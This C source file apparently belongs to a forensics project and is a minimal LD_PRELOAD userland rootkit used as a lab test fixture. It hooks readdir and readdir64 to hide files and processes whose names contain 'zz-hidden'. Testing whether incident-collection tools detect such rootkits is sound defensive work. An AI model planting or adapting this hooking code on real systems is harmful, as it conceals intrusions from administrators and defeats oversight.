/* Copyright: Contributors to the Portcullis project
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * What a userland rootkit does, and no more: loaded into every program by /etc/ld.so.preload, it leaves out of libc's lists of folders
 * the files, and the processes, that have "zz-hidden" in their name. For test_incident_collect.py, on a lab host.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int hides(const char *name)
{
    char path[300], comm[64];
    int file, size;
    if (strstr(name, "zz-hidden"))
        return 1;
    if (name[0] < '1' || name[0] > '9')
        return 0;
    snprintf(path, sizeof path, "/proc/%s/comm", name);
    if ((file = open(path, O_RDONLY | O_CLOEXEC)) < 0)
        return 0;
    size = read(file, comm, sizeof comm - 1);
    close(file);
    comm[size > 0 ? size : 0] = 0;
    return strstr(comm, "zz-hidden") != NULL;
}

struct dirent64 *readdir64(DIR *folder)
{
    static struct dirent64 *(*next)(DIR *);
    struct dirent64 *entry;
    if (!next)
        next = (struct dirent64 * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir64");
    while ((entry = next(folder)) && hides(entry->d_name))
        ;
    return entry;
}

struct dirent *readdir(DIR *folder)
{
    return (struct dirent *)readdir64(folder);
}
